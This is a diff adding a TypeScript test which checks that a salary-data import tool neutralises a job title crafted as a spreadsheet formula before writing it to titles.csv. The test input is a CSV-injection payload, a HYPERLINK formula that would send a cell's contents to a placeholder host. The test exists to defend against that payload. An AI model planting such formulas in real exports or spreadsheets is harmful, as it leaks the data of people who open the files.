@@ -479,6 +479,25 @@ describe('runImport on the fixtures', () => {
 	});
 });
 
+describe('runImport on a job title a spreadsheet would run as a formula', () => {
+	it('writes it guarded into titles.csv, and the snapshot reads back the very title', async () => {
+		const title = '=HYPERLINK("http://example.invalid/?q="&A1,"Machine Learning Engineer")';
+		const raw = (await readFile(RAW_SALARIES, 'utf8')).replace(
+			'2025,SE,FT,Manager,',
+			`2025,SE,FT,"${title.replaceAll('"', '""')}",`
+		);
+		expect(raw).toContain('HYPERLINK');
+		const out = await freshOut();
+		await writeFile(path.join(out, 'raw.csv'), raw);
+		await runImport({ salaries: path.join(out, 'raw.csv'), aiShare: RAW_AI, fx: RAW_FX, out });
+		const csv = await readFile(path.join(out, 'titles.csv'), 'utf8');
+		expect(csv).toContain(`"'${title.replaceAll('"', '""')}",`);
+		expect(csv.split('\n').some((line) => /^"?[=+\-@\t\r]/.test(line))).toBe(false);
+		const rows = parseTable(csv, 'titles.csv', titlesSchema);
+		expect(rows.find((r) => r.job_title === title && r.year === 'all')?.listings).toBe(1);
+	});
+});
+
 describe('runImport and the pins of raw-sources.json', () => {
 	const sha256 = async (file: string) =>
 		createHash('sha256')
